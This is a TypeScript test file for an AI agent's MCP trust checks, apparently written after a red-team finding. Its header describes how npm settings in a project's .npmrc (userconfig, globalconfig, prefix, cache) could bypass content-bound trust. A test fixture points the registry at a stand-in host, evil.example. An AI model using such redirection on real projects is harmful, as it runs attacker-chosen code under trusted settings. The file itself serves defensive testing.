/**
 * Red team round 18, item 4: a launcher's configuration file whose values send the launcher further
 * out. npm takes `userconfig=` and `globalconfig=` from a project's `.npmrc` (checked with npm
 * 11.19: a project `.npmrc` naming `userconfig=/x/u.npmrc` made `npm config get registry` print
 * `u.npmrc`'s registry, and a `globalconfig` there set `cache=`), and applies `prefix=` (whose
 * `etc/npmrc` it reads) though it prints an error; `cache=` is where `npx` keeps the packages it
 * runs (`_npx/…`, run again from there). Trust bound the project's `.npmrc` by content, but a value
 * naming a file outside the folders trust reads was passed over, and a folder's content is not
 * bound: `u.npmrc` could change the registry (and so the code `npx -y docs-mcp` runs) after trust,
 * with the `.mcp.json` still trusted. `trust` now refuses such a file, naming the setting; one that
 * gains the setting after trust is untrusted again at the next session's start (which still starts).
 * Failed before: all five were trusted as they were.
 */
import * as NodeContext from "@effect/platform-node/NodeContext"
import * as Effect from "effect/Effect"
import { mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { afterAll, describe, expect, it } from "vitest"
import * as McpSettings from "../../src/layers/mcp/McpSettings.js"

const root = realpathSync(mkdtempSync(join(tmpdir(), "effect-agent-mcp-points-out-")))
afterAll(() => rmSync(root, { recursive: true, force: true }))
let count = 0

const project = (files: Record<string, string>) => {
  const dir = join(root, `p${++count}`)
  mkdirSync(dir, { recursive: true })
  writeFileSync(join(dir, ".mcp.json"), JSON.stringify({ mcpServers: { docs: { command: "npx", args: ["-y", "docs-mcp"] } } }))
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(join(dir, path, ".."), { recursive: true })
    writeFileSync(join(dir, path), text)
  }
  return dir
}
const inspect = (cwd: string) => Effect.runPromise(Effect.either(McpSettings.inspect(cwd, join(root, "config"))).pipe(Effect.provide(NodeContext.layer)))

describe("a launcher's configuration that points it further out", () => {
  for (const [setting, value] of [["userconfig", "OUT/u.npmrc"], ["globalconfig", "OUT/g.npmrc"], ["prefix", "OUT/prefix"], ["cache", ".npm-cache"], ["cache", "OUT/cache"], ["cache-dir", "OUT/pnpm-cache"], ["store-dir", "OUT/pnpm-store"]] as const) {
    it(`.npmrc's ${setting}= is refused, naming it`, async () => {
      const outside = join(root, `out${count}`)
      mkdirSync(outside, { recursive: true })
      writeFileSync(join(outside, "u.npmrc"), "registry=http://evil.example/\n")
      const cwd = project({ "package.json": "{}", ".npmrc": `fund=false\n${setting} = ${value.replace("OUT", outside)}\n` })
      const inspected = await inspect(cwd)
      expect(inspected._tag, setting).toBe("Left")
      if (inspected._tag === "Left") expect(inspected.left.message).toContain(`${setting}=`)
    })
  }

  it("a trusted project whose .npmrc gains cache= is untrusted again, and the session still starts", async () => {
    const cwd = project({ "package.json": "{}", ".npmrc": "fund=false\n" })
    const inspected = await inspect(cwd)
    if (inspected._tag !== "Right") throw new Error("not trusted")
    const trusted = [{ path: inspected.right!.path, sha256: inspected.right!.sha256, trustedAt: "" }]
    const status = () => Effect.runPromise(McpSettings.readProject(cwd, trusted).pipe(Effect.provide(NodeContext.layer))).then((p) => p!.trust)
    expect(await status()).toBe("trusted")
    writeFileSync(join(cwd, ".npmrc"), "fund=false\ncache=.npm-cache\n")
    expect(await status()).toBe("changed")
  })

  it("other settings are bound as before", async () => {
    const cwd = project({ "package.json": "{}", ".npmrc": "fund=false\nregistry=https://registry.npmjs.org/\n" })
    expect((await inspect(cwd))._tag).toBe("Right")
  })
})
